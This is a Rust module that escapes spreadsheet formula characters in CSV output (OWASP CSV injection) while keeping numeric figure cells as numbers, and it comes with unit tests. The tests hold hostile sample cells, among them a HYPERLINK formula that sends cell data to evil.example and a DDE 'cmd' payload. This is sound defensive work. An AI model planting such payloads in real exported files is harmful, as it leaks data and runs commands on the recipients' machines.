//! CSV for spreadsheets, safe to open: a cell a spreadsheet would read as a
//! formula is written as text (OWASP "CSV injection"), while figures stay
//! numbers an accountant can sum.
//!
//! The rule (OWASP): a cell beginning with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is prefixed with `'`, which every spreadsheet takes as
//! "this is text". A cell in a figure column that is a plain decimal
//! (`-12.50`, `0`, `1042`) is left alone: it cannot be a formula, and a
//! spreadsheet reads it as the number it is.

use std::borrow::Cow;

/// The characters a spreadsheet may take as the start of a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is a plain decimal: an optional `-`, digits, optionally `.` and digits.
fn plain_decimal(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "1"));
    !int.is_empty() && !frac.is_empty() && int.bytes().all(|b| b.is_ascii_digit()) && frac.bytes().all(|b| b.is_ascii_digit())
}

/// The cell as it is safe to write. `figure`: the column holds amounts.
pub fn cell(text: &str, figure: bool) -> Cow<'_, str> {
    if figure && plain_decimal(text) {
        return Cow::Borrowed(text);
    }
    if text.starts_with(FORMULA_START) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// A whole table: the header, then each row, every cell through [`cell`].
pub fn table<'a, R>(headers: &[&str], figures: &[bool], rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = Vec<&'a str>>,
{
    let mut w = csv::Writer::from_writer(Vec::new());
    let _ = w.write_record(headers.iter().map(|h| cell(h, false)).map(|c| c.into_owned()));
    for row in rows {
        let _ = w.write_record(row.iter().enumerate().map(|(i, t)| cell(t, figures.get(i).copied().unwrap_or(false)).into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_figures_stay_numbers() {
        for hostile in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\tx", "\rx"] {
            assert_eq!(cell(hostile, false), format!("'{hostile}"));
            assert_eq!(cell(hostile, true), format!("'{hostile}"), "a figure column is no way in either");
        }
        for figure in ["-12.50", "0", "1042", "0.00"] {
            assert_eq!(cell(figure, true), figure);
        }
        assert_eq!(cell("-12.50", false), "'-12.50", "outside a figure column, the rule holds");
        for odd in ["-", "-.5", "1.", "1e5", "1,000.00"] {
            assert!(!plain_decimal(odd), "{odd}");
        }
        assert_eq!(cell("ACME Ltd", false), "ACME Ltd");
    }
}
